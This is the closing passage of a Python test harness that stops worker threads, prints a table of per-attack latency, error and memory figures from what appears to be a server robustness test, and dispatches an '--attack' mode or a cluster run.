                  % (st["dropped_h2"], st["h2"], st["dropped_h1"], st["h1"]))

    good.stop_ev.set()
    good.join(15)
    sampler.stop_ev.set()
    print("\n%-15s %6s %8s %4s %8s %9s %9s %9s" % ("attack", "ops", "lat_max", "err", "new_cli",
                                                  "rss_pre", "rss_peak", "rss_post"))
    for r in results:
        print("%-15s %6d %7.2fs %4d %7.2fs %8.1fM %8.1fM %8.1fM" % (
            r["attack"], r["ops"], r["lat_max"] or -1, r["errors"], r["new_client_s"],
            r["rss_before_mb"], r["rss_peak_mb"], r["rss_after_mb"]))
    sys.stdout.flush()
    if problems:
        raise Failure("; ".join(problems))


if __name__ == "__main__":
    if len(sys.argv) >= 5 and sys.argv[1] == "--attack":
        attack_main(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
        sys.exit(0)
    import cluster
    cluster.run(main)
